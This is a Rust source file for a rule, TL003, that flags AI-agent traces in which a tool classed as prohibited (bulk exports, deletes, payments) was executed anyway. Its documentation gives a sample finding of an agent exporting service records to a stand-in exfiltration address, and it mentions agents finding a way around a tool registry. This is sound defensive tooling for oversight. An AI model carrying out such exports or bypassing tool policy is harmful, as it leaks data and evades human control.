//! TL003 prohibited-tool-executed: a tool whose effective policy is `prohibited` executed.

use super::input::{effective_or_count, report_unknown};
use super::{Coverage, Finding, Partial, Rule, RuleDocs, RuleInput, RuleOutcome, Severity};
use crate::policy::{PolicyClass, PolicySource};

pub struct ProhibitedToolExecuted;

static DOCS: RuleDocs = RuleDocs {
    what: "A tool whose effective policy is prohibited executed. The effective policy is the \
           policy file's entry; without one, the class the tool's MCP annotations imply with the \
           spec's pessimistic defaults (destructive, or listed without annotations -> prohibited).",
    why: "The host registry says this tool must never run from this agent (bulk exports, deletes, \
          payments). If it ran, either the registry is not enforced or the agent found a way \
          around it; either way a human should look now.",
    example: "execute_tool export_service_records (policy prohibited, tags [exfiltration]) in \
              conversation conv-9, arguments {\"recipient\":\"records-backup@exfil.example\"}.",
    fix: "Enforce the registry in the host before dispatching a tool call (refuse prohibited \
          tools, do not list them to the model), or correct the policy file if the tool is in \
          fact allowed.",
};

/// Tool calls examined.
const CALLS: &str = "calls";

impl Rule for ProhibitedToolExecuted {
    fn code(&self) -> &'static str {
        "TL003"
    }
    fn name(&self) -> &'static str {
        "prohibited-tool-executed"
    }
    fn severity(&self) -> Severity {
        Severity::Critical
    }
    fn docs(&self) -> &'static RuleDocs {
        &DOCS
    }

    fn scan(&self, input: &RuleInput) -> Partial {
        let model = input.model;
        let mut out = Partial::default();
        for call in input.tool_calls().filter(|c| input.owns(c.anchor)) {
            out.add(CALLS, 1);
            let tool = call.tool.as_deref().unwrap_or("?");
            let Some(eff) = effective_or_count(input, &mut out, call, tool) else {
                continue;
            };
            if eff.class != PolicyClass::Prohibited || call.input_required {
                continue;
            }
            let source = match eff.source {
                PolicySource::Registry => "the policy file",
                PolicySource::Annotations => "its MCP annotations (destructive)",
                PolicySource::Defaults => "MCP defaults (listed without annotations)",
            };
            out.findings.push(Finding::for_call(
                self,
                model,
                call,
                format!("{tool} is prohibited (per {source}) but executed"),
            ));
        }
        out
    }

    fn finish(&self, partial: Partial, _input: &RuleInput) -> RuleOutcome {
        let mut cov = Coverage::new(partial.count(CALLS));
        report_unknown(&partial, &mut cov);
        RuleOutcome::new(partial.findings, cov)
    }
}
